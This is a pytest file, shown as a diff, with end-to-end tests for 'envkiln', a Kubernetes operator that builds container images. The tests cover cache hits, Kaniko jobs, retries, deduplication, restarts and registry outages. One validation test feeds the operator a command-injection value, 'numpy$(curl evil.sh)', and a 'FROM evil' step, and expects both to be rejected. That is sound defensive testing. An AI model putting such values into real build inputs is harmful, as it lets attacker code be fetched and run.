@@ -1,0 +1,258 @@
+"""The operator end to end on the real harness: cache hits, Kaniko Jobs, real local builds, dedupe,
+restarts, bad input and registry outages."""
+
+from __future__ import annotations
+
+import time
+
+import pytest
+from kubernetes import client
+
+from envkiln.devcluster.buildah import base_image_archive, push_archive
+from envkiln.devcluster.registry import Registry
+from operator_helpers import (
+    Envs,
+    condition,
+    environment,
+    finish_job,
+    hash_of,
+    image_for,
+    play_kaniko_pod,
+    wait_for,
+)
+
+PIP_SPEC = {"image": "python:3.11-slim", "pip": ["numpy==2.1.3"]}
+
+
+def test_cache_hit_needs_no_build(api_client: client.ApiClient, namespace: str, registry: Registry,
+                                  start_operator) -> None:  # type: ignore[no-untyped-def]
+    spec = {"image": "python:3.11-slim", "pip": ["cachehit==1.0"]}
+    image = image_for(spec, registry.host)
+    digest = push_archive(base_image_archive(), image)
+    operator = start_operator(namespace)
+    envs = Envs(api_client, namespace)
+    envs.create(environment("hit", **spec))
+    status = envs.wait_phase("hit", "Ready", diagnostics=operator.log)
+    assert status["imageDigest"] == digest
+    assert status["imageRef"] == f"{image.rsplit(':', 1)[0]}@{digest}"
+    assert status["cacheHit"] is True
+    assert status["hash"] == hash_of(spec) and status["shortHash"] == hash_of(spec)[:12]
+    assert status["observedGeneration"] == 1
+    assert condition(status, "Ready")["status"] == "True"
+    assert condition(status, "ImageAvailable")["reason"] == "CacheHit"
+    assert status["versions"] == [{"version": "1", "hash": hash_of(spec), "imageRef": status["imageRef"],
+                                   "when": status["versions"][0]["when"]}]
+    assert envs.builds() == [] and envs.jobs() == []
+
+
+def test_kaniko_job_success_path(api_client: client.ApiClient, namespace: str, registry: Registry,
+                                 start_operator) -> None:  # type: ignore[no-untyped-def]
+    operator = start_operator(namespace, max_concurrent_builds="10")
+    envs = Envs(api_client, namespace)
+    envs.create(environment("kaniko", **PIP_SPEC))
+    value = hash_of(PIP_SPEC)
+    envs.wait_phase("kaniko", "Building", diagnostics=operator.log)
+    jobs = wait_for(envs.jobs, what="a Kaniko Job", diagnostics=operator.log)
+    assert len(jobs) == 1
+    job = jobs[0]
+    assert job.metadata.name == f"envkiln-{value}-1"
+    pod_spec = job.spec.template.spec
+    assert pod_spec.automount_service_account_token is False
+    container = pod_spec.containers[0]
+    assert container.image.startswith("ghcr.io/osscontainertools/kaniko:")
+    assert container.termination_message_policy == "FallbackToLogsOnError"
+    destination = f"{registry.host}/envkiln/env_{value}"
+    assert f"--destination={destination}:{value}" in container.args
+    assert f"--destination={destination}:latest" in container.args
+    assert "--digest-file=/dev/termination-log" in container.args and "--cache=true" in container.args
+    assert f"--insecure-registry={registry.host}" in container.args
+    assert container.resources.limits["memory"] and container.security_context.allow_privilege_escalation is False
+    assert job.spec.backoff_limit == 0 and job.spec.active_deadline_seconds and job.spec.ttl_seconds_after_finished
+    assert job.metadata.owner_references[0].kind == "EnvironmentBuild"
+    context = client.CoreV1Api(api_client).read_namespaced_config_map(f"envkiln-{value}-context", namespace)
+    assert "numpy==2.1.3" in context.data["requirements.txt"] and context.data["Dockerfile"].startswith("# Rendered")
+
+    # Play Kaniko: push the image, report its digest through the termination message.
+    digest = push_archive(base_image_archive(), f"{destination}:{value}")
+    play_kaniko_pod(api_client, namespace, job, 0, digest)
+    finish_job(api_client, namespace, job, succeeded=True)
+    status = envs.wait_phase("kaniko", "Ready", diagnostics=operator.log)
+    assert status["imageRef"] == f"{destination}@{digest}" and status["cacheHit"] is False
+    build = envs.build(f"envb-{value}")
+    assert build["status"]["phase"] == "Succeeded" and build["status"]["digest"] == digest
+    assert condition(build["status"], "Succeeded")["status"] == "True"
+    assert any(e.reason == "Ready" for e in envs.events("kaniko"))
+
+
+def test_kaniko_failure_retries_then_fails_with_log_tail(api_client: client.ApiClient, namespace: str,
+                                                         start_operator) -> None:  # type: ignore[no-untyped-def]
+    operator = start_operator(namespace, build_retry_limit="1")
+    envs = Envs(api_client, namespace)
+    spec = {"image": "python:3.11-slim", "pip": ["doesnotexist-envkiln==0.0.1"]}
+    envs.create(environment("broken", **spec))
+    value = hash_of(spec)
+    log = "Step 3/5 : RUN pip install\nERROR: No matching distribution found for doesnotexist-envkiln==0.0.1\n"
+    for attempt in (1, 2):
+        job = wait_for(lambda a=attempt: [j for j in envs.jobs() if j.metadata.name.endswith(f"-{a}")],
+                       what=f"Job for attempt {attempt}", diagnostics=operator.log)[0]
+        play_kaniko_pod(api_client, namespace, job, 1, log + f"attempt {attempt}")
+        finish_job(api_client, namespace, job, succeeded=False)
+        if attempt == 1:
+            build = wait_for(lambda: (b := envs.build(f"envb-{value}"))["status"].get("attempts") == 2 and b,
+                             what="a retry", diagnostics=operator.log)
+            assert condition(build["status"], "Succeeded")["reason"] == "Retrying"
+            assert "attempt 1" in build["status"]["logTail"]
+    status = envs.wait_phase("broken", "Failed", diagnostics=operator.log)
+    assert condition(status, "Ready")["reason"] == "BuildFailed"
+    build = envs.build(f"envb-{value}")
+    assert build["status"]["phase"] == "Failed"
+    assert "No matching distribution" in build["status"]["logTail"] and "attempt 2" in build["status"]["logTail"]
+    assert len(envs.jobs()) == 2
+    assert any(e.reason == "BuildFailed" and e.type == "Warning" for e in envs.events(f"envb-{value}"))
+
+
+def test_fifty_environments_one_build(api_client: client.ApiClient, namespace: str,
+                                      start_operator) -> None:  # type: ignore[no-untyped-def]
+    envs = Envs(api_client, namespace)
+    spec = {"image": "python:3.11-slim", "pip": ["dedupe==1.0"]}
+    for index in range(50):
+        envs.create(environment(f"same-{index}", **spec))
+    operator = start_operator(namespace, workers="20")
+    wait_for(lambda: all(envs.status(f"same-{i}").get("phase") == "Building" for i in range(50)), timeout=90,
+             what="50 Environments Building", diagnostics=operator.log)
+    time.sleep(2)
+    assert len(envs.builds()) == 1
+    assert len(envs.jobs()) == 1
+
+
+def test_restart_resumes_without_duplicates(api_client: client.ApiClient, namespace: str, registry: Registry,
+                                            start_operator) -> None:  # type: ignore[no-untyped-def]
+    envs = Envs(api_client, namespace)
+    spec = {"image": "python:3.11-slim", "pip": ["restart==1.0"]}
+    value = hash_of(spec)
+    operator = start_operator(namespace)
+    envs.create(environment("r1", **spec))
+    job = wait_for(envs.jobs, what="the Job", diagnostics=operator.log)[0]
+    operator.kill()  # SIGKILL: no graceful shutdown
+    envs.create(environment("r2", **spec))  # arrives while no operator runs
+    destination = f"{registry.host}/envkiln/env_{value}"
+    digest = push_archive(base_image_archive(), f"{destination}:{value}")
+    play_kaniko_pod(api_client, namespace, job, 0, digest)
+    finish_job(api_client, namespace, job, succeeded=True)
+    second = start_operator(namespace)
+    for name in ("r1", "r2"):
+        status = envs.wait_phase(name, "Ready", diagnostics=second.log)
+        assert status["imageDigest"] == digest
+    assert len(envs.builds()) == 1 and len(envs.jobs()) == 1
+
+
+def test_new_version_builds_again_and_keeps_history(api_client: client.ApiClient, namespace: str,
+                                                    registry: Registry, start_operator) -> None:  # type: ignore[no-untyped-def]
+    envs = Envs(api_client, namespace)
+    v1 = {"image": "python:3.11-slim", "pip": ["history==1.0"]}
+    v2 = {"image": "python:3.11-slim", "pip": ["history==2.0"]}
+    digest1 = push_archive(base_image_archive(), image_for(v1, registry.host))
+    operator = start_operator(namespace)
+    envs.create(environment("hist", **v1))
+    envs.wait_phase("hist", "Ready", diagnostics=operator.log)
+    envs.custom.patch_namespaced_custom_object("envkiln.dev", "v1alpha1", namespace, "environments", "hist",
+                                               {"spec": {"version": "2", "pip": v2["pip"]}})
+    status = wait_for(lambda: (s := envs.status("hist")).get("hash") == hash_of(v2) and s.get("phase") == "Building"
+                      and s, what="version 2 building", diagnostics=operator.log)
+    assert status["observedGeneration"] == 2
+    versions = status["versions"]
+    assert [(v["version"], v["hash"]) for v in versions] == [("1", hash_of(v1)), ("2", hash_of(v2))]
+    assert versions[0]["imageRef"].endswith(digest1)
+    assert len(envs.builds()) == 1 and envs.builds()[0]["spec"]["hash"] == hash_of(v2)
+
+
+def test_bad_input_fails_clearly_and_others_keep_working(api_client: client.ApiClient, namespace: str,
+                                                         registry: Registry, start_operator) -> None:  # type: ignore[no-untyped-def]
+    envs = Envs(api_client, namespace)
+    good = {"image": "python:3.11-slim", "pip": ["goodone==1.0"]}
+    push_archive(base_image_archive(), image_for(good, registry.host))
+    operator = start_operator(namespace)
+    # Each passes the CRD's structural schema; the operator's validation refuses them.
+    bad = {
+        "inject": {"image": "python:3.11-slim", "pip": ["numpy$(curl evil.sh)"]},
+        "from-step": {"image": "python:3.11-slim", "dockerSteps": ["FROM evil"]},
+        "empty": {},
+        "badimage": {"image": "Python:3", "pip": ["six"]},
+    }
+    for name, spec in bad.items():
+        envs.create(environment(name, **spec))
+    envs.create(environment("good", **good))
+    for name in bad:
+        status = envs.wait_phase(name, "Failed", diagnostics=operator.log)
+        valid = condition(status, "Valid")
+        assert valid["status"] == "False" and valid["reason"] == "InvalidDefinition"
+        assert "spec." in valid["message"]
+        assert "hash" not in status
+        wait_for(lambda n=name: any(e.type == "Warning" and e.reason == "InvalidDefinition"
+                                    for e in envs.events(n)), what=f"Warning event for {name}")
+    assert "Input should be" not in condition(envs.status("inject"), "Valid")["message"]
+    envs.wait_phase("good", "Ready", diagnostics=operator.log)
+    assert envs.builds() == []
+    # Fixing the definition (with a new version) recovers.
+    envs.custom.patch_namespaced_custom_object("envkiln.dev", "v1alpha1", namespace, "environments", "inject",
+                                               {"spec": {"version": "2", "pip": good["pip"]}})
+    envs.wait_phase("inject", "Ready", diagnostics=operator.log)
+    assert operator.exited() is None
+
+
+def test_registry_outage_is_reported_and_recovers(api_client: client.ApiClient, namespace: str,
+                                                  start_operator) -> None:  # type: ignore[no-untyped-def]
+    with Registry() as flaky:
+        spec = {"image": "python:3.11-slim", "pip": ["outage==1.0"]}
+        digest = push_archive(base_image_archive(), image_for(spec, flaky.host))
+        flaky.stop()
+        operator = start_operator(namespace, registry_host=flaky.host)
+        envs = Envs(api_client, namespace)
+        envs.create(environment("outage", **spec))
+        status = wait_for(lambda: (s := envs.status("outage")).get("conditions") and s, what="a status",
+                          diagnostics=operator.log)
+        ready = condition(status, "Ready")
+        assert ready["reason"] == "RegistryUnavailable" and status["phase"] == "Pending"
+        assert condition(status, "ImageAvailable")["status"] == "Unknown"
+        time.sleep(3)
+        assert envs.status("outage")["phase"] == "Pending", "an outage alone never fails an Environment"
+        assert envs.builds() == [], "an outage is not 'image missing': no build"
+        flaky.start()
+        status = envs.wait_phase("outage", "Ready", timeout=60, diagnostics=operator.log)
+        assert status["imageDigest"] == digest and status["cacheHit"] is True
+
+
+def test_bring_your_own_container_resolves_digest(api_client: client.ApiClient, namespace: str, registry: Registry,
+                                                  base_image: str, start_operator) -> None:  # type: ignore[no-untyped-def]
+    operator = start_operator(namespace)
+    envs = Envs(api_client, namespace)
+    envs.create(environment("byoc", image=base_image, userManaged=True))
+    status = envs.wait_phase("byoc", "Ready", diagnostics=operator.log)
+    _, digest = registry.manifest(base_image.split("/", 1)[1].rsplit(":", 1)[0], "bookworm")
+    assert status["imageRef"] == f"{base_image.rsplit(':', 1)[0]}@{digest}"
+    assert status["kind"] == "BringYourOwnContainer" and envs.builds() == []
+    envs.create(environment("byoc-missing", image=f"{registry.host}/nothing/here:1", userManaged=True))
+    status = envs.wait_phase("byoc-missing", "Failed", diagnostics=operator.log)
+    assert condition(status, "Ready")["reason"] == "ImageNotFound"
+
+
+@pytest.mark.timeout(900)
+def test_local_builder_real_build_then_cache_hit(api_client: client.ApiClient, namespace: str, registry: Registry,
+                                                 base_image: str, start_operator) -> None:  # type: ignore[no-untyped-def]
+    operator = start_operator(namespace, builder="local", build_deadline_seconds="800")
+    envs = Envs(api_client, namespace)
+    spec = {"image": base_image, "pip": ["six==1.16.0"], "dockerSteps": ["ENV ENVKILN_TEST=1"]}
+    envs.create(environment("real", **spec))
+    status = envs.wait_phase("real", "Ready", timeout=800, diagnostics=operator.log)
+    value = hash_of(spec)
+    repository = f"envkiln/env_{value}"
+    manifest, registry_digest = registry.manifest(repository, value)
+    assert status["imageDigest"] == registry_digest
+    assert status["imageRef"] == f"{registry.host}/{repository}@{registry_digest}"
+    assert status["cacheHit"] is False
+    assert "latest" in registry.tags(repository)
+    assert len(manifest["layers"]) >= 2
+    envs.create(environment("real-again", **spec))
+    again = envs.wait_phase("real-again", "Ready", diagnostics=operator.log)
+    assert again["imageRef"] == status["imageRef"] and again["cacheHit"] is True
+    assert len(envs.builds()) == 1
